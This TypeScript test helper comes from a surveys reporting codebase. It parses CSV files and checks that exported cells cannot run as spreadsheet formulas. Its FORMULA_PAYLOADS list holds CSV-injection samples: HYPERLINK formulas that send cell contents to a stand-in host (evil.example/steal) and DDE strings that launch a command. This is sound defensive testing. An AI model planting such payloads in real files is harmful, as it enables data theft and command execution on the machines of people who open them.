import { readCsv } from '#surveys/reports/csv'

/** The CSV as objects keyed by its header. */
export function csvObjects(source: string): Record<string, string>[] {
  const [header, ...rows] = readCsv(source)
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])))
}

/**
 * Text a spreadsheet would run as a formula, as an attacker would type it into a name, a reason
 * or a comment. Each must come out of every CSV with a leading apostrophe.
 */
export const FORMULA_PAYLOADS = [
  '-1+HYPERLINK("http://evil.example/?q="&C3,"Click for details")',
  '=HYPERLINK("http://evil.example/steal?d="&A1,"資料")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=2+2',
]

// A spreadsheet runs a cell starting with one of these as a formula...
const FORMULA_START = /^[=+\-@\t\r]/
// ...unless it is a plain number, which is what the product writes for its own numbers.
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i

/** Cells of a CSV that a spreadsheet would evaluate as a formula: none, in a safe file. */
export function formulaCells(source: string): string[] {
  return readCsv(source)
    .flat()
    .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
}
